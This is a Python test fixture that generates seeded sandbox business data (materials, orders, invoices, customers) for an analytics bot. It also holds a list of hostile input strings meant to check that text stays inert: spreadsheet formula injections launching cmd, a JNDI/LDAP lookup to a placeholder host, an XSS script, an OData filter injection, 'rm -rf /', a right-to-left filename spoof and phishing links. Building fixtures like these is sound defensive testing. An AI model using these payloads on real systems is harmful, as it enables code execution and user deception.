"""The knowledge models that a sandbox starts with, and their rows: made up from a seed, relative to the day of the start."""

from __future__ import annotations

import random
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from typing import TYPE_CHECKING

from bot.sandbox.schema import Field, Filter, KnowledgeModel, Kpi, Link, Measure, Record, Row, Trigger, Value

if TYPE_CHECKING:
    from collections.abc import Iterable

RESTRICTED_PACKAGE = "executive-finance"
OPEN_PACKAGES = frozenset(
    {
        "open-purchase-requisition",
        "order-to-cash",
        "accounts-payable",
        "new-ideas",
        "quality-lab",
    }
)

BIG_RECORD_ROWS = 5001
WIDE_RECORD_FIELDS = 205

HOSTILE_TEXTS: tuple[tuple[str, Value], ...] = (
    ("channel mention", "<!channel> please pay"),
    ("person mention", "<@U1> and <@U0123456789>"),
    ("broadcast words", "@here @everyone @channel"),
    ("Slack link", "<https://example.com/phish|Your bank>"),
    ("Markdown link", "[Your bank](https://example.com/phish)"),
    ("Markdown picture", "![x](https://example.com/track.png)"),
    ("HTML", "<script>alert('1')</script><b>bold</b> &amp; <at>Everyone</at>"),
    ("bold and italic", "*bold* _italic_ ~gone~ **double** __under__"),
    ("code", "`code` and ```fence\nrm -rf /\n```"),
    ("heading and list", "# heading\n- item\n1. one\n> quote\n---\n| a | b |"),
    ("apostrophe", "O'Leary Ltd"),
    ("doubled apostrophe", "O''Leary' or 1 eq 1 or 'a' eq 'a"),
    ("ampersand", "Sales & Marketing"),
    ("percent", "100 % cotton"),
    ("percent code", "50%25 off %27 %00"),
    ("plus and hash", "a+b #tag a=b?c=d/e\\f"),
    ("quotes", '"quoted" “curly” ‘single’ «angle»'),
    ("formula", "=cmd|'/c calc'!A1"),
    ("formula with plus", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula with minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula with at", "@SUM(1,2)"),
    ("template", "${jndi:ldap://example.com/a} {{7*7}} {0} %s"),
    ("date function", "{{DATE(2026-03-01T00:00:00Z, LONG)}} <!date^1392734382^{date}|x>"),
    ("bidi override", "invoice \u202egnp.exe\u202c end"),
    ("bidi isolate", "a\u2066b\u2069c\u200fd\u200e"),
    ("zero width", "zero\u200bwidth\u200djoin\ufeffmark"),
    ("control characters", "tab\there, bell\u0007, escape\u001b[31mred\u001b[0m, null sign \u2400"),
    ("line breaks", "one\ntwo\r\nthree\u2028four"),
    ("emoji", "👩🏽‍🔧 👨‍👩‍👧‍👦 🇩🇪 ✅ :smile:"),
    ("Chinese and Japanese", "采购申请 / 購買依頼 / カタカナ"),
    ("Arabic", "طلب شراء رقم 123"),
    ("Hebrew", "הזמנת רכש 456"),
    ("Thai and Hindi", "ใบสั่งซื้อ / खरीद आदेश"),
    ("Greek and Cyrillic", "Παραγγελία / Заказ № 7"),
    ("umlauts", "Größe, Übermaß, straße, ÄÖÜ"),
    ("combining marks", "Z\u0351a\u0301l\u0300g\u0302o\u0308 e\u0301 é"),
    ("look-alike", "Раyment (with Cyrillic Ра)"),
    ("3,000 characters", "Lorem & <ipsum> *dolor* " * 125),
    ("one long word", "x" * 600),
    ("empty", ""),
    ("blank", "   "),
    ("null", None),
    ("the word null", "null"),
    ("a number as text", "00123"),
    ("a keyword", "where country = Germany and sort -value"),
    ("a question", "yes, stop main job"),
    ("a key", "Authorization: AppKey bm90LWEtcmVhbC1rZXk6c2FuZGJveA=="),
)


class _Maker:
    """Dice and dates for the rows of one start."""

    def __init__(self, seed: str, today: date) -> None:
        self.dice = random.Random(f"{seed}/rows")  # noqa: S311 - the same rows for the same seed, on purpose
        self.today = today

    def day(self, ago: int) -> date:
        return self.today - timedelta(days=ago)

    def moment(self, day: date) -> datetime:
        return datetime(day.year, day.month, day.day, tzinfo=UTC) + timedelta(
            seconds=self.dice.randrange(6 * 3600, 20 * 3600)
        )

    def chance(self, part: float) -> bool:
        return self.dice.random() < part

    def amount(self, low: float, high: float) -> float:
        return round(self.dice.triangular(low, high, low), 2)


_MATERIALS = (
    ("PC Installation / Configuration", "I-1000", "Services"),
    ("Notebook 14 inch", "I-1001", "IT equipment"),
    ("Monitor 27 inch", "I-1002", "IT equipment"),
    ("Docking station", "I-1003", "IT equipment"),
    ("Office chair", "I-1010", "Furniture"),
    ("Standing desk", "I-1011", "Furniture"),
    ("Cable M8, 5 m", "I-1020", "Electrical"),
    ("Proximity sensor", "I-1021", "Electrical"),
    ("Frequency converter 4 kW", "I-1022", "Electrical"),
    ("Hydraulic oil 20 l", "I-1030", "Operating supplies"),
    ("Safety gloves (100 pairs)", "I-1031", "Operating supplies"),
    ("Cleaning of building 7", "I-1040", "Services"),
    ("Maintenance of conveyor belt", "I-1041", "Services"),
    ("Forklift rental", "I-1042", "Services"),
    ("Steel sheet 2 mm", "I-1050", "Raw materials"),
    ("Aluminium profile", "I-1051", "Raw materials"),
    ("Polypropylene granulate", "I-1052", "Raw materials"),
    ("100 % cotton", "I-1053", "Raw materials"),
    ("Cardboard box 60 × 40", "I-1060", "Packaging"),
    ("Stretch film", "I-1061", "Packaging"),
    ("Pallet, heat treated", "I-1062", "Packaging"),
    ("Brochure printing", "I-1070", "Sales & Marketing"),
    ("Trade fair booth", "I-1071", "Sales & Marketing"),
    ("Cost of Goods Sold report, printed", "I-1072", "Sales & Marketing"),
)

_MATERIAL_ODDITIES: tuple[tuple[Value, Value, Value, Value, Value], ...] = (
    ("Welding services", "I-2000", "Services", 18_250.0, "O'Leary Ltd"),
    ("<!channel> urgent repair", "I-2001", "Services", 1_450.5, "<@U1> Trading"),
    ("*bold* paint, `matt`", "I-2002", "Operating supplies", 89.9, "[Click](https://example.com)"),
    ("采购服务", "I-2003", "Services", 7_300.0, "上海设备有限公司"),
    ("Кабель 3×1,5", "I-2004", "Electrical", 412.75, "ООО «Ромашка»"),
    ("Spare part without a group", "I-2005", None, 66.0, "Müller & Söhne GmbH"),
    ("Spare part with an empty group", "I-2006", "", 0.0, ""),
    ("Credit note", "I-2007", "Services", -1_200.0, None),
    ("Amount still open", "I-2008", "Services", None, "O'Leary Ltd"),
    (None, "I-2009", "Packaging", 12.5, "=cmd|'/c calc'!A1"),
)


def _materials(make: _Maker) -> Record:
    suppliers = ("Hansen Industrietechnik", "Northwind Supplies", "Delta Components", "Blue Harbor Services")
    rows: list[Row] = [
        (
            name,
            number,
            group,
            4_990.0 if number == "I-1000" else make.amount(40, 24_000),
            make.dice.choice(suppliers),
            make.day(make.dice.randrange(0, 900)),
        )
        for name, number, group in _MATERIALS
    ]
    rows.extend((*oddity, make.day(20 + number)) for number, oddity in enumerate(_MATERIAL_ODDITIES))
    return Record(
        "MATERIALS",
        "Materials",
        "Materials that have been purchased.",
        (
            Field(
                "material_name", "Material name", description="Name of the material that has been purchased."
            ),
            Field(
                "material_number", "Material number", description="Number of the material in the ERP system."
            ),
            Field("material_group", "Material group", description="Group that the material belongs to."),
            Field("payment_amount", "Payment amount", "float", ",.2f", "EUR", "Amount pending to pay"),
            Field("supplier", "Supplier", description="Who delivers it."),
            Field("last_order", "Last order", "date", "%Y-%m-%d", "", "Day of the last order"),
        ),
        tuple(rows),
        short_name="Materials",
        note="Materials",
    )


def _history(make: _Maker) -> Record:
    steps = (
        "Create requisition",
        "Approve requisition",
        "Change price",
        "Create order",
        "Receive goods",
        "Pay",
    )
    rows: list[Row] = []
    for number in range(240):
        moment = make.moment(make.day(make.dice.randrange(0, 120)))
        seen = moment + timedelta(milliseconds=make.dice.randrange(1, 999))
        rows.append(
            (
                1_000_000 + number,
                make.dice.choice(steps),
                moment,
                moment.date(),
                seen,
                number % 3 != 0,
                number % 7,
            )
        )
    return Record(
        "EVENTS",
        "Events",
        "What happened to the requisitions, and when.",
        (
            Field("ID", "ID", "integer", ",.0f"),
            Field("ACTIVITIES", "Activities"),
            Field("EVENTTIME", "Event time", "datetime", "%Y-%m-%d"),
            Field("event_day", "Event day", "date", "%d.%m.%Y"),
            Field("seen_at", "Seen at", "timestamp", "%Y-%m-%d %H:%M:%S"),
            Field("active", "Active", "boolean"),
            Field("changes", "Changes", "number", "#.##"),
        ),
        tuple(rows),
    )


def _opportunities(make: _Maker) -> Record:
    rows: list[Row] = [
        (f"OPP-{number:03}", make.amount(1_000, 250_000), make.dice.choice(("Open", "Won", "Lost")))
        for number in range(75)
    ]
    return Record(
        "OPPORTUNITIES",
        "Opportunities",
        "Sales opportunities.",
        (
            Field("opportunity_id", "Opportunity id"),
            Field("opportunity_value", "Opportunity value", "float", ",.0f", "USD"),
            Field("stage", "Stage"),
        ),
        tuple(rows),
    )


def _purchase_requisitions(make: _Maker) -> KnowledgeModel:
    identity = "open-purchase-requisition.purchase-requisition-km"
    return KnowledgeModel(
        identity,
        "Purchase Requisition KM",
        "2023-04-19 11:29:45",
        records=(_materials(make), _history(make), _opportunities(make)),
        kpis=(
            Kpi(
                "AVG_EVENTS_PER_CASE",
                "Average events per case",
                Measure("avg", "EVENTS", "changes"),
                "#.###",
                "",
                "Up",
                None,
                "An average events per case",
                (("parameter_1", "My First Parameter", "1"),),
            ),
            Kpi(
                "FILTERED_COUNT",
                "Filtered count",
                Measure("count", "EVENTS", where=("active", True)),
                ",.0f",
                description="Number of active events",
            ),
            Kpi(
                "TOTAL_PAYMENT",
                "Total payment amount",
                Measure("sum", "MATERIALS", "payment_amount"),
                ",.2f",
                "EUR",
                "Down",
                "150000",
                "Everything that is still to be paid",
            ),
            Kpi(
                "AVG_PAYMENT",
                "Average payment",
                Measure("avg", "MATERIALS", "payment_amount"),
                ",.2f",
                "EUR",
                "Down",
            ),
            Kpi("MATERIAL_COUNT", "Number of materials", Measure("count", "MATERIALS"), ",.0f"),
        ),
        filters=(
            Filter(
                "24M_FILTER",
                "24 Months",
                "MATERIALS",
                f"last_order ge {make.day(730)}",
                "Materials we purchased over the past 24 months.",
            ),
            Filter("not_null_orders", "Orders with a group", "MATERIALS", "material_group is not null"),
            Filter("active_incidents", "Active incidents", "EVENTS", "active eq true"),
            Filter(
                "cel_and_kpi",
                "Expensive services",
                "MATERIALS",
                "material_group eq 'Services' and payment_amount gt 1000",
                "Services over 1,000 EUR",
            ),
        ),
        triggers=(Trigger("abc-123-bad-123", "Blocked Orders", "MATERIALS"),),
        extends=f"{identity}-base",
    )


_COUNTRIES = (
    ("Germany", ("Hamburg 1000", "München 1100")),
    ("France", ("Lyon 1200",)),
    ("United States", ("Dallas 3000", "Chicago 3100")),
    ("Spain", ("Sevilla 1400",)),
    ("Côte d'Ivoire", ("Abidjan 1500",)),
    ("Japan", ("大阪 2000",)),
)
_CUSTOMER_NAMES = (
    "Alpine Sports AG",
    "Baltic Shipyards",
    "Casa & Jardín",
    "Dupont Frères",
    "Evergreen Foods",
    "Fjord Fisheries",
    "Great Lakes Tools",
    "Harbour Lights",
    "O'Leary Ltd",
    "日本機械",
    "Kupfer + Zink",
    'Lumen "Light" Inc.',
)


def _customers(make: _Maker) -> Record:
    rows: list[Row] = [
        (
            f"C-{100 + number}",
            name,
            _COUNTRIES[number % len(_COUNTRIES)][0],
            number % 4 == 0,
            make.amount(10_000, 900_000),
        )
        for number, name in enumerate(_CUSTOMER_NAMES)
    ]
    return Record(
        "CUSTOMERS",
        "Customers",
        "Who orders.",
        (
            Field("customer_id", "Customer number"),
            Field("customer_name", "Customer name"),
            Field("customer_country", "Customer country"),
            Field("key_account", "Key account", "boolean"),
            Field("credit_limit", "Credit limit", "float", ",.0f", "EUR"),
        ),
        tuple(rows),
    )


_ORDER_FIELDS = (
    Field("order_id", "Order number"),
    Field("customer", "Customer"),
    Field("country", "Country"),
    Field("plant", "Plant"),
    Field("order_date", "Order date", "date", "%Y-%m-%d"),
    Field("created_at", "Created at", "datetime", "%Y-%m-%d %H:%M"),
    Field("requested_delivery", "Requested delivery date", "date", "%Y-%m-%d"),
    Field("delivery_date", "Delivery date", "date", "%Y-%m-%d"),
    Field("on_time", "Delivered on time", "boolean"),
    Field("throughput_days", "Throughput time", "integer", ",.0f", "days"),
    Field("value_eur", "Value in EUR", "float", ",.2f", "EUR"),
    Field("cogs", "Cost of Goods Sold", "float", ",.2f", "EUR"),
    Field("status", "Status"),
    Field("automated", "Created automatically", "boolean"),
    Field("touches", "Manual touches", "integer", "#"),
    Field("blocked", "Credit block", "boolean"),
    Field("internal_note", "Internal note", filterable=False, sortable=False),
)


def _order(make: _Maker, number: int) -> Row:
    dice = make.dice
    ago = dice.randrange(0, 420)
    ordered = make.day(ago)
    country, plants = dice.choices(_COUNTRIES, weights=(34, 17, 24, 11, 5, 9))[0]
    plant = dice.choice(plants)
    requested = ordered + timedelta(days=dice.randrange(7, 21))
    slow = plant in ("Dallas 3000", "Abidjan 1500")
    late = make.chance(0.31 if slow else 0.09)
    arrived = requested + timedelta(days=dice.randrange(1, 9) if late else -dice.randrange(0, 4))
    delivered = arrived if arrived <= make.today else None
    automated = make.chance(0.63)
    value = make.amount(150, 42_000)
    status = "Delivered" if delivered else ("Blocked" if make.chance(0.12) else "In progress")
    return (
        f"{4_500_000_000 + number}",
        None if number % 97 == 0 else f"C-{100 + dice.randrange(len(_CUSTOMER_NAMES))}",
        country,
        plant,
        ordered,
        make.moment(ordered),
        requested,
        delivered,
        None if delivered is None else not late,
        None if delivered is None else (delivered - ordered).days,
        value,
        round(value * dice.uniform(0.52, 0.81), 2),
        status,
        automated,
        0 if automated else dice.randrange(1, 9),
        status == "Blocked",
        None if number % 5 else f"Call {dice.choice(_CUSTOMER_NAMES)} before delivery",
    )


def _deliveries(make: _Maker, orders: Record) -> Record:
    rows: list[Row] = []
    at = orders.positions
    for number, order in enumerate(orders.rows):
        shipped = order[at["delivery_date"]]
        if not isinstance(shipped, date):
            continue
        parts = 2 if number % 6 == 0 else 1
        rows.extend(
            (
                f"{8_000_000_00 + number}-{part + 1}",
                order[at["order_id"]],
                shipped - timedelta(days=part),
                make.dice.choice(("DHL", "Kühne + Nagel", "Own fleet")),
                round(make.dice.uniform(2, 900), 1),
            )
            for part in range(parts)
        )
    return Record(
        "DELIVERIES",
        "Deliveries",
        "Goods that left a plant.",
        (
            Field("delivery_id", "Delivery number"),
            Field("order", "Order"),
            Field("shipped_on", "Shipped on", "date", "%Y-%m-%d"),
            Field("carrier", "Carrier"),
            Field("weight", "Weight", "float", ",.1f", "kg"),
        ),
        tuple(rows),
        links=(Link("order", "ORDERS", "order_id"),),
    )


def _order_to_cash(make: _Maker) -> KnowledgeModel:
    orders = Record(
        "ORDERS",
        "Sales orders",
        "Orders of the last fourteen months.",
        _ORDER_FIELDS,
        tuple(_order(make, number) for number in range(1200)),
        links=(Link("customer", "CUSTOMERS", "customer_id"),),
        short_name="Orders",
    )
    return KnowledgeModel(
        "order-to-cash.order-to-cash-km",
        "Order to Cash",
        _published(make, 12),
        records=(orders, _deliveries(make, orders), _customers(make)),
        kpis=(
            Kpi(
                "ON_TIME_DELIVERY",
                "On-time delivery",
                Measure("share", "ORDERS", where=("on_time", True)),
                ".1%",
                "",
                "Up",
                "0.9",
                "Part of the delivered orders that arrived on or before the requested day",
            ),
            Kpi(
                "AVG_THROUGHPUT_DAYS",
                "Average throughput time",
                Measure("avg", "ORDERS", "throughput_days"),
                ",.1f",
                "days",
                "Down",
                "12",
                "From order to delivery",
            ),
            Kpi(
                "AUTOMATION_RATE",
                "Automation rate",
                Measure("share", "ORDERS", where=("automated", True), factor=100),
                "#.#",
                "%",
                "Up",
                "70",
                "Orders that nobody had to touch",
            ),
            Kpi("COGS", "Cost of Goods Sold", Measure("sum", "ORDERS", "cogs"), ",.0f", "EUR", "Down"),
            Kpi("VALUE_EUR", "Value in EUR", Measure("sum", "ORDERS", "value_eur"), ",.0f", "EUR", "Up"),
            Kpi(
                "COGS_SHARE",
                "Cost share",
                Measure("ratio", "ORDERS", "cogs", "value_eur"),
                ".1%",
                "",
                "Down",
                "0.65",
            ),
            Kpi("ORDER_COUNT", "Number of orders", Measure("count", "ORDERS"), ",.0f", "", "None"),
            Kpi(
                "BLOCKED_ORDERS",
                "Blocked orders",
                Measure("count", "ORDERS", where=("blocked", True)),
                ",.0f",
                "",
                "Down",
                "0",
            ),
            Kpi("SHIPPED_WEIGHT", "Shipped weight", Measure("sum", "DELIVERIES", "weight"), ",.0f", "kg"),
            Kpi("ACTIVE_CUSTOMERS", "Ordering customers", Measure("distinct", "ORDERS", "customer"), ",.0f"),
        ),
        filters=(
            Filter(
                "delayed_orders",
                "Delayed orders",
                "ORDERS",
                "on_time eq false",
                "Delivered after the requested day",
            ),
            Filter("open_orders", "Open orders", "ORDERS", "delivery_date is null", "Not delivered yet"),
            Filter("key_accounts", "Key accounts only", "CUSTOMERS", "key_account eq true"),
        ),
        triggers=(Trigger("order-blocked-1", "Order blocked", "ORDERS"),),
    )


def _accounts_payable(make: _Maker) -> KnowledgeModel:
    vendors = (
        "Hansen Industrietechnik",
        "Northwind Supplies",
        "Top 10 Traders",
        "Where & When Logistics",
        "O'Leary Ltd",
        "By the Sea Catering",
        "Müller & Söhne GmbH",
    )
    rows: list[Row] = []
    for number in range(800):
        dice = make.dice
        posted = make.day(dice.randrange(0, 400))
        due = posted + timedelta(days=dice.choice((14, 30, 45, 60)))
        paid = due + timedelta(days=dice.choice((-12, -3, -1, 0, 2, 9)))
        settled = paid if paid <= make.today else None
        rows.append(
            (
                f"51{number:08}",
                dice.choice(vendors),
                dice.choice(("1000", "2000", "3000")),
                posted,
                due,
                settled,
                None if settled is None else settled > due,
                None if settled is None else (settled - posted).days,
                make.amount(20, 95_000),
                settled is not None and make.chance(0.4),
                "Paid" if settled else dice.choice(("Open", "Open", "Payment block")),
                dice.choice(("EUR", "EUR", "USD", "GBP")),
            )
        )
    invoices = Record(
        "INVOICES",
        "Vendor invoices",
        "Incoming invoices.",
        (
            Field("invoice_id", "Invoice number"),
            Field("vendor", "Vendor"),
            Field("company_code", "Company code"),
            Field("posting_date", "Posting date", "date", "%Y-%m-%d"),
            Field("due_date", "Due date", "date", "%Y-%m-%d"),
            Field("payment_date", "Payment date", "date", "%Y-%m-%d"),
            Field("late", "Paid late", "boolean"),
            Field("days_payable", "Days payable", "integer", ",.0f", "days"),
            Field("amount", "Invoice amount", "float", ",.2f", "EUR"),
            Field("discount", "Cash discount taken", "boolean"),
            Field("status", "Payment status"),
            Field("currency", "Currency"),
        ),
        tuple(rows),
    )
    return KnowledgeModel(
        "accounts-payable.accounts-payable-km",
        "Accounts Payable",
        _published(make, 40),
        records=(invoices,),
        kpis=(
            Kpi(
                "DPO",
                "Days payable outstanding",
                Measure("avg", "INVOICES", "days_payable"),
                ",.1f",
                "days",
                "Up",
                "38",
            ),
            Kpi(
                "LATE_RATE",
                "Late payment rate",
                Measure("share", "INVOICES", where=("late", True)),
                ".1%",
                "",
                "Down",
                "0.1",
            ),
            Kpi("VALUE_EUR", "Value in EUR", Measure("sum", "INVOICES", "amount"), ",.0f", "EUR"),
            Kpi("INVOICE_COUNT", "Number of invoices", Measure("count", "INVOICES"), ",.0f"),
            Kpi(
                "DISCOUNT_RATE",
                "Cash discount rate",
                Measure("share", "INVOICES", where=("discount", True), factor=100),
                "#.#",
                "%",
                "Up",
                "45",
            ),
        ),
        filters=(
            Filter("open_invoices", "Open invoices", "INVOICES", "payment_date is null"),
            Filter(
                "blocked_invoices", "Invoices with a payment block", "INVOICES", "status eq 'Payment block'"
            ),
        ),
    )


def _formats_and_limits(make: _Maker) -> KnowledgeModel:
    hostile = Record(
        "HOSTILE",
        "Hostile values",
        "Text that must stay text wherever it is shown.",
        (
            Field("kind", "Kind"),
            Field("text", "Text *with* <markup>"),
            Field("number", "Number", "integer", ",.0f"),
            Field("share", "Share", "float", ".1%"),
            Field("flag", "Flag", "boolean"),
            Field("day", "Day", "date", "%d/%m/%Y"),
            Field("moment", "Moment", "datetime", "%Y-%m-%d %H:%M:%S"),
        ),
        tuple(
            (
                kind,
                text,
                None if number % 9 == 0 else number * 1_234_567,
                None if number % 7 == 0 else number / 40 - 0.3,
                None if number % 5 == 0 else number % 2 == 0,
                None if number % 8 == 0 else make.day(number),
                None if number % 6 == 0 else make.moment(make.day(number)),
            )
            for number, (kind, text) in enumerate(HOSTILE_TEXTS)
        ),
    )
    big = Record(
        "BIG",
        "Big table",
        "More rows than can be reached.",
        (Field("row", "Row", "integer", "#"), Field("code", "Code"), Field("half", "Half", "float", "#.#")),
        tuple((number, f"R-{number:05}", number / 2) for number in range(1, BIG_RECORD_ROWS + 1)),
    )
    wide = Record(
        "WIDE",
        "Wide table",
        "More fields than one request may ask for.",
        tuple(
            Field(f"f{number:03}", f"Field {number:03}", "integer", "#")
            for number in range(1, WIDE_RECORD_FIELDS + 1)
        ),
        tuple(
            tuple(line * 1000 + number for number in range(1, WIDE_RECORD_FIELDS + 1)) for line in range(3)
        ),
    )
    nothing = Record("EMPTY", "Empty table", "A record without rows.", (Field("id", "Id"),), ())
    return KnowledgeModel(
        "quality-lab.formats-km",
        "Formats and Limits",
        _published(make, 3),
        records=(hostile, big, wide, nothing),
        kpis=(
            Kpi("BIG_COUNT", "Rows of the big table", Measure("count", "BIG"), "#"),
            Kpi("BIG_AVERAGE", "Average of the big table", Measure("avg", "BIG", "half"), "#.###"),
            Kpi("NO_VALUE", "A KPI without a value", Measure("avg", "EMPTY", "id"), ",.1f", "", "Up", "5"),
        ),
    )


def _small_knowledge_models(make: _Maker) -> Iterable[KnowledgeModel]:
    yield KnowledgeModel(
        "procurement-emea.purchase-requisition-km",
        "Purchase Requisition KM",
        _published(make, 200),
        records=(
            Record(
                "REQUISITIONS",
                "Requisitions",
                "Requisitions of the EMEA region.",
                (
                    Field("requisition", "Requisition"),
                    Field("region", "Region"),
                    Field("amount", "Amount", "float"),
                ),
                tuple(
                    (f"PR-{number}", ("DACH", "Nordics", "Iberia")[number % 3], number * 75.5)
                    for number in range(1, 40)
                ),
            ),
        ),
        kpis=(
            Kpi(
                "REQUISITION_VALUE",
                "Value of requisitions",
                Measure("sum", "REQUISITIONS", "amount"),
                ",.0f",
                "EUR",
            ),
        ),
    )
    yield KnowledgeModel("new-ideas.empty-km", "Empty KM", _published(make, 1))
    yield KnowledgeModel(
        f"{RESTRICTED_PACKAGE}.cash-forecast-km",
        "Cash Forecast",
        _published(make, 5),
        records=(
            Record(
                "FORECAST",
                "Forecast",
                "Expected cash by week.",
                (Field("week", "Week"), Field("cash", "Cash", "float", ",.0f", "EUR")),
                tuple((f"W{number:02}", number * 100_000.0) for number in range(1, 14)),
            ),
        ),
        kpis=(Kpi("CASH", "Expected cash", Measure("sum", "FORECAST", "cash"), ",.0f", "EUR", "Up"),),
    )


def _published(make: _Maker, ago: int) -> str:
    return f"{make.day(ago)} 08:15:00"


@lru_cache(maxsize=4)
def _knowledge_models(seed: str, today: date) -> tuple[KnowledgeModel, ...]:
    make = _Maker(seed, today)
    return (
        _purchase_requisitions(make),
        _order_to_cash(make),
        _accounts_payable(make),
        _formats_and_limits(make),
        *_small_knowledge_models(make),
    )


def make_knowledge_models(seed: str, start: float) -> tuple[KnowledgeModel, ...]:
    """The knowledge models for this seed on the UTC day of `start` (seconds since 1970). They are never changed."""
    return _knowledge_models(seed, datetime.fromtimestamp(start, UTC).date())
